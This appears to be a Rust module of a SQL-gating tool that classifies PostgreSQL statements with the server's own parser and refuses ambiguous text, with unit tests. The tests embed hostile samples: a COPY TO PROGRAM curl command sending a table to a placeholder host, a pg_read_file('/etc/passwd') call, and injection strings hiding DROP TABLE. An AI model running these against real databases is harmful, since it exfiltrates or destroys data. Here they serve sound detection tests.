//! SQL as PostgreSQL's own parser sees it (`pg_query`, libpg_query): a
//! statement string split into its statements, each classified for the
//! rules: its kind, the tables it reads and writes, whether an UPDATE or
//! DELETE has a WHERE, the functions it calls, and its fingerprint.
//!
//! The server's parser, not a generic SQL parser: dollar quoting, nested
//! comments, `U&` identifiers and `E''` strings mean here what they mean to
//! the server, so a statement cannot be hidden from the rules by a parse
//! differential. Text the parser refuses never reaches the server: the loop
//! gets the parser's own syntax error (SQLSTATE 42601), as the server would
//! have sent it.
//!
//! Tables are found by walking the whole parse tree (every node the parser
//! produced, serialised), not a list of known node types: a table named in a
//! statement kind nobody thought of is still found. The walk is
//! conservative where the rules need it to be:
//!
//! - a CTE named like a table does not hide the table its body reads
//!   (`WITH pii AS (SELECT * FROM pii) SELECT * FROM pii` reads `pii`);
//! - an unqualified name is every table it could be on the session's
//!   `search_path` (`users` with `search_path = app, public` is both
//!   `app.users` and `public.users`); without a known search path, `public`.
//!
//! Functions are those called by name (`FuncCall`: in expressions, `FROM`
//! clauses and `CALL`), schema-qualified as written; functions reached
//! through operators, casts or inside a DO block or a function body are not
//! seen (DO and CALL are classified as such, for rules to refuse them).

use std::collections::{BTreeSet, HashMap, VecDeque};
use std::sync::{Arc, Mutex};

use serde_json::Value;

/// One statement of a query string.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Statement {
    /// This statement's text, as the loop wrote it.
    pub text: String,
    /// Lower-case kind: `select`, `insert`, `update`, `delete`, `merge`,
    /// `drop`, `truncate`, `alter_role`, `create_role`, `grant`, `set`,
    /// `copy`, `do`, `call`, `transaction`, ... (the parser's statement node,
    /// without `Stmt`, in snake case, with a few short names).
    pub kind: String,
    /// Every table it names (read or written), schema-qualified.
    pub tables: Vec<String>,
    /// The tables it writes (the target of INSERT, UPDATE, DELETE, MERGE,
    /// COPY FROM, TRUNCATE, DROP, CREATE, ALTER, SELECT INTO).
    pub writes: Vec<String>,
    /// An UPDATE or DELETE without a WHERE clause.
    pub unbounded: bool,
    /// Functions called by name, as written (`pg_catalog.pg_read_file`).
    pub functions: Vec<String>,
    /// `COPY ... PROGRAM` (runs a shell command on the server).
    pub program: bool,
    /// `COPY ... FROM|TO 'file'` (a file on the database server).
    pub server_file: bool,
    /// Run-time settings it changes: `SET`/`RESET` names (`role`,
    /// `session_authorization`, `search_path`, ...; `all` for `RESET ALL`)
    /// and `set_config(name, ...)` calls (`?` when the name is not a
    /// constant).
    pub settings: Vec<String>,
    /// The schemas of a `SET search_path` (and of a constant
    /// `set_config('search_path', ...)`), for the names of later statements.
    pub search_path: Option<Vec<String>>,
    /// SQL-level `PREPARE name AS ...`: the name. The statement's kind,
    /// tables, writes and functions are those of the statement it prepares.
    pub prepares: Option<String>,
    /// SQL-level `EXECUTE name`: the name (judged as the prepared statement).
    pub executes: Option<String>,
    /// `DEALLOCATE name` (`Some(None)`: `DEALLOCATE ALL`).
    pub deallocates: Option<Option<String>>,
    /// A transaction statement that opens a transaction block (`BEGIN`,
    /// `START TRANSACTION`, `COMMIT AND CHAIN`: `Some(true)`) or ends one
    /// (`COMMIT`, `ROLLBACK`, `PREPARE TRANSACTION`: `Some(false)`).
    pub block: Option<bool>,
    /// `COPY ... FROM STDIN`: the server waits for the loop's data.
    pub copy_from_stdin: bool,
    /// The text with its constants replaced by `$n` (pg_query's
    /// normalisation): what the audit records, so literals (e-mail
    /// addresses, tokens) in the text are not stored.
    pub normalized: String,
    /// What the server would run the same way whatever the constants
    /// (pg_query's fingerprint, hex).
    pub fingerprint: String,
}

impl Statement {
    /// The operation the rules judge: this statement's attributes, with
    /// `text` (the statement as the loop wrote it, or the EXECUTE that runs
    /// it) and bound `params`.
    pub fn op<'a>(&'a self, text: &'a str, params: &'a [String]) -> crate::policy::SqlOp<'a> {
        crate::policy::SqlOp {
            kind: &self.kind,
            tables: &self.tables,
            writes: &self.writes,
            unbounded: self.unbounded,
            functions: &self.functions,
            program: self.program,
            server_file: self.server_file,
            settings: &self.settings,
            text,
            params,
        }
    }
}

/// Why a query string was not classified.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SqlError {
    /// The server's parser refuses it: the message the server would send
    /// with SQLSTATE 42601.
    #[error("{0}")]
    Syntax(String),
    /// Longer than the classifier takes.
    #[error("the statement is {0} bytes long, more than loopgate inspects")]
    TooLong(usize),
    /// Text the server could read otherwise than the agent, depending on a
    /// setting the loop controls (SQLSTATE, message).
    #[error("{1}")]
    Ambiguous(&'static str, String),
}

impl SqlError {
    /// The SQLSTATE the loop gets.
    pub fn sqlstate(&self) -> &'static str {
        match self {
            SqlError::Syntax(_) => "42601",
            SqlError::TooLong(_) => "54000",
            SqlError::Ambiguous(code, _) => code,
        }
    }
}

/// Longest query string classified (longer ones are refused).
pub const MAX_SQL: usize = 1 << 20;

/// Splits and classifies `sql`; unqualified table names are resolved
/// against `search_path` (empty: `public`).
pub fn classify(sql: &str, search_path: &[String]) -> Result<Vec<Statement>, SqlError> {
    if sql.len() > MAX_SQL {
        return Err(SqlError::TooLong(sql.len()));
    }
    if sql.contains('\0') {
        // The server reads a query string up to its NUL.
        return Err(SqlError::Syntax(
            "the query string contains a NUL byte".into(),
        ));
    }
    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).map_err(syntax)?;
    if sql.contains('\\') {
        unambiguous(sql)?;
    }
    let mut out = Vec::with_capacity(parsed.protobuf.stmts.len());
    for raw in &parsed.protobuf.stmts {
        let Some(node) = raw.stmt.as_ref() else {
            continue;
        };
        let text = statement_text(sql, raw.stmt_location, raw.stmt_len);
        let tree = serde_json::to_value(node.as_ref()).unwrap_or(Value::Null);
        let (kind_node, body) = match &tree {
            Value::Object(m) => match m.get("node").and_then(Value::as_object) {
                Some(inner) => inner
                    .iter()
                    .next()
                    .map_or(("", &Value::Null), |(k, v)| (k.as_str(), v)),
                None => ("", &Value::Null),
            },
            _ => ("", &Value::Null),
        };
        // The statement itself (the walk sees the nested ones).
        let mut found = Found {
            unbounded: matches!(kind_node, "UpdateStmt" | "DeleteStmt")
                && body.get("where_clause").is_none_or(Value::is_null),
            ..Found::default()
        };
        walk(body, None, &mut found);
        let copy = (kind_node == "CopyStmt").then(|| {
            (
                body.get("is_from")
                    .and_then(Value::as_bool)
                    .unwrap_or(false),
                body.get("is_program")
                    .and_then(Value::as_bool)
                    .unwrap_or(false),
            )
        });
        // COPY ... TO reads its table (a query it runs may still write);
        // COPY ... FROM writes it.
        if let Some((false, _)) = copy {
            if let Some(rel) = body
                .get("relation")
                .and_then(|r| r.as_object())
                .and_then(range_var)
            {
                found.written.remove(&rel);
            }
        }
        let server_file = copy.is_some_and(|(_, program)| {
            !program
                && body
                    .get("filename")
                    .and_then(Value::as_str)
                    .is_some_and(|f| !f.is_empty())
        });
        // `PREPARE p AS <statement>` is judged as the statement it prepares.
        let (kind_node, stmt_body) = if kind_node == "PrepareStmt" {
            match body.get("query").and_then(node_of) {
                Some((k, b)) => (k, b),
                None => (kind_node, body),
            }
        } else {
            (kind_node, body)
        };
        // Any UPDATE or DELETE without WHERE anywhere in the statement
        // (EXPLAIN ANALYZE, a CTE, COPY (...) TO, PREPARE).
        let unbounded = found.unbounded;
        let name = || body.get("name").and_then(Value::as_str).map(str::to_owned);
        let prepares = (!std::ptr::eq(stmt_body, body)).then(name).flatten();
        let executes = if kind_node == "ExecuteStmt" {
            name()
        } else {
            None
        };
        let discard_all = kind_node == "DiscardStmt"
            && body.get("target").and_then(Value::as_i64)
                == Some(pg_query::protobuf::DiscardMode::DiscardAll as i64);
        let deallocates = (kind_node == "DeallocateStmt" || discard_all).then(|| {
            name().filter(|_| !body.get("isall").and_then(Value::as_bool).unwrap_or(false))
        });
        if kind_node == "VariableSetStmt" {
            let setting = name()
                .filter(|n| !n.is_empty())
                .unwrap_or_else(|| "all".into())
                .to_ascii_lowercase();
            if setting == "search_path" {
                let mut values = Vec::new();
                strings(body.get("args").unwrap_or(&Value::Null), &mut values);
                found.search_path = Some(values);
            }
            found.settings.insert(setting);
        }
        let block = (kind_node == "TransactionStmt")
            .then(|| {
                use pg_query::protobuf::TransactionStmtKind as K;
                let chain = body.get("chain").and_then(Value::as_bool).unwrap_or(false);
                let k = body.get("kind").and_then(Value::as_i64).unwrap_or(0);
                if k == K::TransStmtBegin as i64 || k == K::TransStmtStart as i64 {
                    Some(true)
                } else if k == K::TransStmtCommit as i64 || k == K::TransStmtRollback as i64 {
                    Some(chain)
                } else if k == K::TransStmtPrepare as i64 {
                    Some(false)
                } else {
                    None
                }
            })
            .flatten();
        let qualify = |names: &BTreeSet<Vec<String>>| -> Vec<String> {
            let mut v: BTreeSet<String> = BTreeSet::new();
            for n in names {
                for q in qualified(n, search_path) {
                    v.insert(q);
                }
            }
            v.into_iter().collect()
        };
        let tables = qualify(&found.all);
        let writes = qualify(&found.written);
        let fingerprint = pg_query::fingerprint(&text, pg_query::ParserOptions::DEFAULT, 0)
            .map(|f| f.hex)
            .unwrap_or_default();
        out.push(Statement {
            kind: kind_name(kind_node),
            tables,
            writes,
            unbounded,
            functions: found.functions.into_iter().collect(),
            program: copy.is_some_and(|(_, p)| p),
            server_file,
            settings: found.settings.into_iter().collect(),
            search_path: found.search_path,
            prepares,
            executes,
            deallocates,
            block,
            copy_from_stdin: copy.is_some_and(|(from, program)| from && !program) && !server_file,
            normalized: pg_query::normalize(&text).unwrap_or_else(|_| text.clone()),
            fingerprint,
            text,
        });
    }
    Ok(out)
}

/// The text with every constant blanked out (a NUL, which no query text
/// holds), and the text with constants replaced by `$n` as pg_query
/// normalises it. `None` when the scanner refuses the text. The scanner is
/// PostgreSQL's own: two texts with the same shape are the same tokens but
/// for the constants' values, so they parse to the same statement.
fn shape(sql: &str) -> Option<(String, String)> {
    use pg_query::protobuf::Token;
    let tokens = pg_query::scan_tokens(sql).ok()?;
    let constant = |t: i32| {
        [
            Token::Sconst,
            Token::Iconst,
            Token::Fconst,
            Token::Bconst,
            Token::Xconst,
            Token::Usconst,
        ]
        .iter()
        .any(|c| *c as i32 == t)
    };
    // New parameters are numbered after the loop's own.
    let mut n = tokens
        .iter()
        .filter(|t| t.token == Token::Param as i32)
        .filter_map(|t| sql.get(usize::try_from(t.start).ok()? + 1..usize::try_from(t.end).ok()?))
        .filter_map(|d| d.parse::<u32>().ok())
        .max()
        .unwrap_or(0);
    let (mut key, mut norm) = (
        String::with_capacity(sql.len()),
        String::with_capacity(sql.len()),
    );
    let mut last = 0;
    for t in tokens.iter().filter(|t| constant(t.token)) {
        let (start, end) = (usize::try_from(t.start).ok()?, usize::try_from(t.end).ok()?);
        let before = sql.get(last..start)?;
        key.push_str(before);
        key.push('\0');
        n += 1;
        norm.push_str(before);
        norm.push('$');
        norm.push_str(&n.to_string());
        last = end;
    }
    let rest = sql.get(last..)?;
    key.push_str(rest);
    norm.push_str(rest);
    let norm = norm.trim().trim_end_matches(';').trim_end().to_owned();
    Some((key, norm))
}

/// Refuses text whose meaning depends on what the loop can set:
/// `standard_conforming_strings` (a backslash ends a string only when it is
/// off) and the client encoding (in GBK, SJIS, BIG5 and the like, a byte
/// over 0x7F can swallow the backslash that follows it, so `E'...\'` closes
/// where UTF-8 does not). The server's reading is the one that runs.
fn unambiguous(sql: &str) -> Result<(), SqlError> {
    if sql
        .as_bytes()
        .windows(2)
        .any(|w| w[0] >= 0x80 && w[1] == b'\\')
    {
        return Err(SqlError::Ambiguous(
            "22021",
            "a backslash right after a non-ASCII character can end a string in another client encoding; put a space or another character between them".into(),
        ));
    }
    use pg_query::ParserOptions as O;
    let on = pg_query::fingerprint(sql, O::DEFAULT, 0).map(|f| f.hex);
    let off = pg_query::fingerprint(sql, O::DISABLE_STANDARD_CONFORMING_STRINGS, 0).map(|f| f.hex);
    let split = |o| pg_query::parse(sql, o).map(|p| p.protobuf.stmts.len()).ok();
    if on.ok() != off.ok() || split(O::DEFAULT) != split(O::DISABLE_STANDARD_CONFORMING_STRINGS) {
        return Err(SqlError::Ambiguous(
            "22P06",
            "this text means different statements with standard_conforming_strings on and off; write backslashes in E'...' strings".into(),
        ));
    }
    Ok(())
}

fn syntax(e: pg_query::Error) -> SqlError {
    match e {
        pg_query::Error::Parse(m) => SqlError::Syntax(m),
        other => SqlError::Syntax(other.to_string()),
    }
}

/// The text of one statement (`stmt_len` 0: to the end).
fn statement_text(sql: &str, location: i32, len: i32) -> String {
    let start = usize::try_from(location).unwrap_or(0).min(sql.len());
    let end = match usize::try_from(len) {
        Ok(0) | Err(_) => sql.len(),
        Ok(n) => (start + n).min(sql.len()),
    };
    sql.get(start..end).unwrap_or(sql).trim().to_owned()
}

/// `SelectStmt` → `select`; `AlterRoleStmt` → `alter_role`; a few short
/// names for the ones rules name most.
fn kind_name(node: &str) -> String {
    let short = match node {
        "VariableSetStmt" => Some("set"),
        "VariableShowStmt" => Some("show"),
        "TransactionStmt" => Some("transaction"),
        "CreateStmt" => Some("create_table"),
        "CreateTableAsStmt" => Some("create_table_as"),
        "ExplainStmt" => Some("explain"),
        "" => Some("empty"),
        _ => None,
    };
    if let Some(s) = short {
        return s.to_owned();
    }
    let base = node.strip_suffix("Stmt").unwrap_or(node);
    let mut out = String::with_capacity(base.len() + 4);
    for (i, c) in base.chars().enumerate() {
        if c.is_ascii_uppercase() {
            if i > 0 {
                out.push('_');
            }
            out.push(c.to_ascii_lowercase());
        } else {
            out.push(c);
        }
    }
    out
}

#[derive(Default)]
struct Found {
    /// Names as written: `[catalog,] [schema,] table`.
    all: BTreeSet<Vec<String>>,
    written: BTreeSet<Vec<String>>,
    functions: BTreeSet<String>,
    settings: BTreeSet<String>,
    search_path: Option<Vec<String>>,
    unbounded: bool,
}

/// Keys under which a statement names the relation it writes.
const WRITTEN: &[&str] = &["relation", "relations", "rel", "view", "sequence"];

/// Walks every node; `key` is the field this value hangs from in its
/// statement (for the written relations).
fn walk(v: &Value, key: Option<&str>, found: &mut Found) {
    match v {
        Value::Object(m) => {
            for k in ["UpdateStmt", "DeleteStmt"] {
                if let Some(Value::Object(stmt)) = m.get(k) {
                    if stmt.get("where_clause").is_none_or(Value::is_null) {
                        found.unbounded = true;
                    }
                }
            }
            if let Some(name) = range_var(m) {
                if key.is_some_and(|k| WRITTEN.contains(&k)) {
                    found.written.insert(name.clone());
                }
                found.all.insert(name);
            }
            if let Some(Value::Array(parts)) = m.get("funcname") {
                // A FuncCall (and CALL's): its name, schema-qualified as written.
                if m.contains_key("args") || m.contains_key("agg_order") {
                    let name: Vec<&str> = parts.iter().filter_map(string_node).collect();
                    if !name.is_empty() {
                        if name.last() == Some(&"set_config") {
                            // set_config('role', ...) is SET ROLE.
                            let first = m
                                .get("args")
                                .and_then(Value::as_array)
                                .and_then(|a| a.first())
                                .and_then(|a| a.pointer("/node/AConst/val/Sval/sval"))
                                .and_then(Value::as_str);
                            let setting = first.map_or("?".to_owned(), str::to_ascii_lowercase);
                            if setting == "search_path" {
                                let value = m
                                    .get("args")
                                    .and_then(Value::as_array)
                                    .and_then(|a| a.get(1))
                                    .and_then(|a| a.pointer("/node/AConst/val/Sval/sval"))
                                    .and_then(Value::as_str);
                                found.search_path = Some(match value {
                                    Some(v) => v
                                        .split(',')
                                        .map(|s| s.trim().trim_matches('"').to_owned())
                                        .filter(|s| !s.is_empty())
                                        .collect(),
                                    None => vec!["?".into()],
                                });
                            }
                            found.settings.insert(setting);
                        }
                        found.functions.insert(name.join("."));
                    }
                }
            }
            // DROP TABLE/VIEW names its objects as lists of strings.
            if let (Some(Value::Array(objects)), Some(t)) = (
                m.get("objects"),
                m.get("remove_type").and_then(Value::as_i64),
            ) {
                use pg_query::protobuf::ObjectType;
                let t = i32::try_from(t)
                    .ok()
                    .and_then(|t| ObjectType::try_from(t).ok());
                if matches!(
                    t,
                    Some(
                        ObjectType::ObjectTable
                            | ObjectType::ObjectView
                            | ObjectType::ObjectMatview
                            | ObjectType::ObjectForeignTable
                    )
                ) {
                    for o in objects {
                        let parts: Vec<String> = o
                            .pointer("/node/List/items")
                            .and_then(Value::as_array)
                            .map(|items| {
                                items
                                    .iter()
                                    .filter_map(string_node)
                                    .map(str::to_owned)
                                    .collect()
                            })
                            .unwrap_or_default();
                        if !parts.is_empty() {
                            found.written.insert(parts.clone());
                            found.all.insert(parts);
                        }
                    }
                }
            }
            for (k, child) in m {
                // Wrapper keys (`node`, `RangeVar`, ...) keep the field name
                // the value hangs from.
                let inner =
                    if k == "node" || k.chars().next().is_some_and(|c| c.is_ascii_uppercase()) {
                        key
                    } else {
                        Some(k.as_str())
                    };
                walk(child, inner, found);
            }
        }
        Value::Array(items) => {
            for i in items {
                walk(i, key, found);
            }
        }
        _ => {}
    }
}

/// A RangeVar's name parts, whether wrapped in a node or not.
fn range_var(m: &serde_json::Map<String, Value>) -> Option<Vec<String>> {
    let rel = m.get("relname")?.as_str()?;
    m.get("relpersistence")?;
    let mut parts = Vec::new();
    for k in ["catalogname", "schemaname"] {
        if let Some(s) = m.get(k).and_then(Value::as_str).filter(|s| !s.is_empty()) {
            parts.push(s.to_owned());
        }
    }
    parts.push(rel.to_owned());
    Some(parts)
}

/// A `{"node": {"Kind": body}}` value's kind and body.
fn node_of(v: &Value) -> Option<(&str, &Value)> {
    v.get("node")?
        .as_object()?
        .iter()
        .next()
        .map(|(k, b)| (k.as_str(), b))
}

/// Every string constant under `v`, in order (`SET search_path = a, "B"`).
fn strings(v: &Value, out: &mut Vec<String>) {
    match v {
        Value::Object(m) => {
            for (k, child) in m {
                match (k.as_str(), child) {
                    ("sval", Value::String(s)) => out.push(s.clone()),
                    _ => strings(child, out),
                }
            }
        }
        Value::Array(items) => items.iter().for_each(|i| strings(i, out)),
        _ => {}
    }
}

/// The value of a `String` node (`{"node": {"String": {"sval": ...}}}`).
fn string_node(v: &Value) -> Option<&str> {
    v.pointer("/node/String/sval").and_then(Value::as_str)
}

/// `schema.table` for each schema the name could be in.
fn qualified(parts: &[String], search_path: &[String]) -> Vec<String> {
    match parts {
        [table] => {
            let schemas: Vec<&str> = if search_path.is_empty() {
                vec!["public"]
            } else {
                search_path.iter().map(String::as_str).collect()
            };
            schemas.iter().map(|s| format!("{s}.{table}")).collect()
        }
        [.., schema, table] => vec![format!("{schema}.{table}")],
        [] => Vec::new(),
    }
}

/// Longest text kept in the classifier's cache (with 4096 entries, the
/// cache holds at most a few hundred MiB of text and classification).
pub const MAX_CACHED_TEXT: usize = 16 * 1024;

/// Parses each distinct query text once: a bounded cache (least recently
/// added evicted first), shared by the sessions of a target.
pub struct Classifier {
    capacity: usize,
    inner: Mutex<Cache>,
    shapes: Mutex<Shapes>,
}

/// A query string and the search path it was resolved with.
type Key = (String, Vec<String>);
/// Single statements by shape (the text with its constants blanked out):
/// statements that differ only in constants classify alike.
type Shapes = (HashMap<Key, Statement>, VecDeque<Key>);
/// A classification, shared by the sessions that sent the same text.
pub type Classified = Arc<Result<Vec<Statement>, SqlError>>;
/// Entries, and their keys in the order they were added.
type Cache = (HashMap<Key, Classified>, VecDeque<Key>);

impl Classifier {
    pub fn new(capacity: usize) -> Self {
        Classifier {
            capacity: capacity.max(1),
            inner: Mutex::new((HashMap::new(), VecDeque::new())),
            shapes: Mutex::new((HashMap::new(), VecDeque::new())),
        }
    }

    pub fn classify(&self, sql: &str, search_path: &[String]) -> Classified {
        let key = (sql.to_owned(), search_path.to_vec());
        if let Some(hit) = self.inner.lock().ok().and_then(|g| g.0.get(&key).cloned()) {
            return hit;
        }
        // Long texts, and texts whose backslashes need the two readings
        // compared, are parsed each time.
        if sql.len() > MAX_CACHED_TEXT || sql.contains('\\') || sql.contains('\0') {
            return Arc::new(classify(sql, search_path));
        }
        let shaped = shape(sql);
        if let Some((shape_key, normalized)) = &shaped {
            let key = (shape_key.clone(), search_path.to_vec());
            let hit = self.shapes.lock().ok().and_then(|g| g.0.get(&key).cloned());
            if let Some(mut st) = hit {
                st.text = statement_text(sql, 0, 0);
                st.text = st.text.trim_end_matches(';').trim_end().to_owned();
                st.normalized = normalized.clone();
                return Arc::new(Ok(vec![st]));
            }
        }
        let fresh = Arc::new(classify(sql, search_path));
        if let (Some((shape_key, _)), Ok(v)) = (shaped, &*fresh) {
            // One statement whose constants say nothing the rules read
            // (SET values and set_config arguments do).
            if let [st] = &v[..] {
                if st.settings.is_empty() && st.search_path.is_none() {
                    if let Ok(mut g) = self.shapes.lock() {
                        let (map, order) = &mut *g;
                        let key = (shape_key, search_path.to_vec());
                        if map.insert(key.clone(), st.clone()).is_none() {
                            order.push_back(key);
                        }
                        while map.len() > self.capacity {
                            match order.pop_front() {
                                Some(old) => {
                                    map.remove(&old);
                                }
                                None => break,
                            }
                        }
                    }
                }
            }
        }
        if let Ok(mut g) = self.inner.lock() {
            let (map, order) = &mut *g;
            if map.insert(key.clone(), fresh.clone()).is_none() {
                order.push_back(key);
            }
            while map.len() > self.capacity {
                match order.pop_front() {
                    Some(old) => {
                        map.remove(&old);
                    }
                    None => break,
                }
            }
        }
        fresh
    }

    pub fn len(&self) -> usize {
        self.inner.lock().map(|g| g.0.len()).unwrap_or(0)
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn one(sql: &str) -> Statement {
        let mut v = classify(sql, &[]).unwrap_or_else(|e| panic!("{sql}: {e}"));
        assert_eq!(v.len(), 1, "{sql}: {v:?}");
        v.remove(0)
    }

    #[test]
    fn kinds_tables_and_writes() {
        let s =
            one("SELECT o.id, c.email FROM orders o JOIN crm.customers c ON c.id = o.customer_id");
        assert_eq!(s.kind, "select");
        assert_eq!(s.tables, ["crm.customers", "public.orders"]);
        assert!(s.writes.is_empty());
        let s = one("INSERT INTO audit_log SELECT * FROM events WHERE ts > now()");
        assert_eq!(
            (s.kind.as_str(), s.writes.as_slice()),
            ("insert", &["public.audit_log".to_owned()][..])
        );
        assert_eq!(s.tables, ["public.audit_log", "public.events"]);
        assert_eq!(s.functions, ["now"]);
        let s = one("DROP TABLE IF EXISTS scratch, app.old_orders");
        assert_eq!(s.kind, "drop");
        assert_eq!(s.writes, ["app.old_orders", "public.scratch"]);
        let s = one("TRUNCATE orders");
        assert_eq!(
            (s.kind.as_str(), s.writes.as_slice()),
            ("truncate", &["public.orders".to_owned()][..])
        );
        let s = one("CREATE TABLE copy AS SELECT * FROM pii.users");
        assert_eq!(s.kind, "create_table_as");
        assert_eq!(s.writes, ["public.copy"]);
        assert!(s.tables.contains(&"pii.users".to_owned()));
        let s = one("ALTER ROLE app PASSWORD 'x'");
        assert_eq!(s.kind, "alter_role");
        let s = one("SET ROLE admin");
        assert_eq!(
            (s.kind.as_str(), s.settings.as_slice()),
            ("set", &["role".to_owned()][..])
        );
        assert_eq!(
            one("SET SESSION AUTHORIZATION admin").settings,
            ["session_authorization"]
        );
        assert_eq!(one("RESET ALL").settings, ["all"]);
        let s = one("SELECT set_config('ROLE', 'admin', false)");
        assert_eq!(s.settings, ["role"]);
        assert_eq!(
            one("SELECT set_config(current_user, 'x', false)").settings,
            ["?"]
        );
    }

    #[test]
    fn search_paths_prepare_and_execute() {
        let s = one("SET search_path TO app, \"$user\", public");
        assert_eq!(
            s.search_path.as_deref(),
            Some(&["app".to_owned(), "$user".into(), "public".into()][..])
        );
        assert_eq!(
            one("RESET search_path").search_path.as_deref(),
            Some(&[][..])
        );
        let s = one("SELECT set_config('search_path', 'secret, public', true)");
        assert_eq!(
            s.search_path.as_deref(),
            Some(&["secret".to_owned(), "public".into()][..])
        );
        // PREPARE is judged as what it prepares.
        let s = one("PREPARE wipe (int) AS DELETE FROM orders");
        assert_eq!((s.kind.as_str(), s.unbounded), ("delete", true));
        assert_eq!(s.prepares.as_deref(), Some("wipe"));
        assert_eq!(s.writes, ["public.orders"]);
        let s = one("EXECUTE wipe(1)");
        assert_eq!(
            (s.kind.as_str(), s.executes.as_deref()),
            ("execute", Some("wipe"))
        );
        assert_eq!(
            one("DEALLOCATE wipe").deallocates,
            Some(Some("wipe".into()))
        );
        assert_eq!(one("DEALLOCATE ALL").deallocates, Some(None));
        assert!(one("COPY t FROM STDIN").copy_from_stdin);
        assert!(!one("COPY t FROM '/tmp/x'").copy_from_stdin);
        assert!(!one("COPY t FROM PROGRAM 'cat'").copy_from_stdin);
        assert!(!one("COPY t TO STDOUT").copy_from_stdin);
        for (sql, block) in [
            ("BEGIN", Some(true)),
            ("start transaction isolation level serializable", Some(true)),
            ("COMMIT", Some(false)),
            ("END", Some(false)),
            ("ABORT", Some(false)),
            ("ROLLBACK", Some(false)),
            ("COMMIT AND CHAIN", Some(true)),
            ("PREPARE TRANSACTION 'x'", Some(false)),
            ("SAVEPOINT a", None),
            ("ROLLBACK TO SAVEPOINT a", None),
            ("COMMIT PREPARED 'x'", None),
            ("SELECT 1", None),
        ] {
            assert_eq!(one(sql).block, block, "{sql}");
        }
    }

    #[test]
    fn update_and_delete_without_where_are_unbounded() {
        assert!(one("DELETE FROM orders").unbounded);
        assert!(one("UPDATE orders SET paid = true").unbounded);
        assert!(!one("DELETE FROM orders WHERE id = 1").unbounded);
        assert!(!one("UPDATE orders SET paid = true WHERE id = $1").unbounded);
        assert!(!one("SELECT * FROM orders").unbounded);
        // A CTE's DELETE is its own statement node inside the SELECT: the
        // statement is a select (rules on writes still see the table).
        let s = one("WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d");
        assert_eq!(s.kind, "select");
        assert!(s.writes.contains(&"public.orders".to_owned()), "{s:?}");
    }

    #[test]
    fn multi_statement_strings_are_split_where_the_server_splits_them() {
        let v = classify("DROP TABLE scratch; insert into t values (1)", &[]).unwrap();
        let kinds: Vec<&str> = v.iter().map(|s| s.kind.as_str()).collect();
        assert_eq!(kinds, ["drop", "insert"]);
        assert_eq!(v[0].text, "DROP TABLE scratch");
        assert_eq!(v[1].text, "insert into t values (1)");
        // What a naive splitter would cut is one statement to the server.
        for sql in [
            "select $$ ; drop table x $$",
            "select $tag$ ; drop table x $tag$",
            "select 1 /* outer /* nested ; drop table x */ still a comment */",
            "select E'it''s \\' ; drop table x'",
            "select U&\"d\\0061ta\" from t",
        ] {
            let v = classify(sql, &[]).unwrap_or_else(|e| panic!("{sql}: {e}"));
            assert_eq!(v.len(), 1, "{sql}: {v:?}");
            assert_eq!(v[0].kind, "select", "{sql}");
            assert!(!v[0].tables.contains(&"public.x".to_owned()), "{sql}");
        }
        // U& identifiers are the table they spell.
        assert_eq!(one("select * from U&\"d\\0061ta\"").tables, ["public.data"]);
    }

    #[test]
    fn ctes_and_search_paths_do_not_hide_tables() {
        let s = one("WITH pii AS (SELECT * FROM pii) SELECT * FROM pii");
        assert_eq!(s.tables, ["public.pii"]);
        let path = vec!["app".to_owned(), "public".to_owned()];
        let v = classify("SELECT * FROM users", &path).unwrap();
        assert_eq!(v[0].tables, ["app.users", "public.users"]);
    }

    #[test]
    fn functions_copy_program_do_and_call() {
        let s = one("SELECT pg_catalog.pg_read_file('/etc/passwd'), lower(name) FROM pg_ls_dir('.') AS name");
        assert_eq!(
            s.functions,
            ["lower", "pg_catalog.pg_read_file", "pg_ls_dir"]
        );
        let s = one("COPY orders TO PROGRAM 'curl -d @- https://x'");
        assert_eq!((s.kind.as_str(), s.program), ("copy", true));
        assert!(s.writes.is_empty(), "COPY TO reads: {s:?}");
        let s = one("COPY orders FROM STDIN");
        assert_eq!(
            (s.program, s.writes.as_slice()),
            (false, &["public.orders".to_owned()][..])
        );
        assert_eq!(one("DO $$ BEGIN PERFORM pg_sleep(1); END $$").kind, "do");
        let s = one("CALL app.refresh(1)");
        assert_eq!(
            (s.kind.as_str(), s.functions.as_slice()),
            ("call", &["app.refresh".to_owned()][..])
        );
    }

    #[test]
    fn what_the_parser_refuses_is_its_own_syntax_error() {
        assert_eq!(
            classify("l'acqua e' poca", &[]),
            Err(SqlError::Syntax("syntax error at or near \"l\"".into()))
        );
        assert!(matches!(
            classify("select 1\0; drop table x", &[]),
            Err(SqlError::Syntax(_))
        ));
        let long = format!("select '{}'", "x".repeat(MAX_SQL));
        assert!(matches!(classify(&long, &[]), Err(SqlError::TooLong(_))));
        // Constants do not change the fingerprint; the shape does.
        let a = one("SELECT * FROM orders WHERE id = 1");
        let b = one("select * from orders where id = 42");
        let c = one("SELECT * FROM orders WHERE id > 1");
        assert_eq!(a.fingerprint, b.fingerprint);
        assert_ne!(a.fingerprint, c.fingerprint);
        assert_eq!(
            one("select * from users where email = 'a@b.example'").normalized,
            "select * from users where email = $1"
        );
    }

    #[test]
    fn text_the_server_could_read_otherwise_is_refused() {
        // With standard_conforming_strings off, `\'` escapes the quote: the
        // server would run a DROP the default reading hides in a string.
        let e = classify("SELECT 'a\\' , ' ; DROP TABLE orders; --'", &[]).unwrap_err();
        assert_eq!(e.sqlstate(), "22P06", "{e}");
        // In GBK, 0xAD 0x5C is one character: the backslash is gone.
        let e = classify("SELECT E'\u{4e2d}\\' ; DROP TABLE orders; --'", &[]).unwrap_err();
        assert_eq!(e.sqlstate(), "22021", "{e}");
        // Backslashes that mean the same either way are fine.
        for ok in ["SELECT E'a\\nb'", "SELECT 'a\\nb'", "SELECT E'\u{e9} \\n'"] {
            assert!(classify(ok, &[]).is_ok(), "{ok}");
        }
    }

    #[test]
    fn statements_that_differ_in_constants_share_a_classification() {
        let c = Classifier::new(16);
        let path = ["app".to_owned(), "public".to_owned()];
        for (a, b) in [
            (
                "SELECT abalance FROM pgbench_accounts WHERE aid = 42;",
                "SELECT abalance FROM pgbench_accounts WHERE aid = 7;",
            ),
            (
                "UPDATE orders SET note = 'x' WHERE id = 1",
                "UPDATE orders SET note = 'a much longer value' WHERE id = 99",
            ),
            (
